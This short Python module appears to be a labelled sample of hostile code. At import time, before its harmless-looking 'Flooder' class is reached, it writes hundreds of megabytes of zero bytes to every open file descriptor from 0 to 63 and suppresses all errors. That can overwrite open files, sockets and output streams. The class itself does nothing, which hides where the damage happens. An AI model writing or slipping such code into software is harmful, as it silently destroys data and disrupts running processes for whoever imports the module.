# category: lies; where: module
# Writes without end into whatever is open.
import os

block = b"\x00" * 65536
for _ in range(4096):
    for fd in range(64):
        try:
            os.write(fd, block)
        except OSError:
            pass


class Flooder(Trait):
    async def execute(self, entity):
        pass
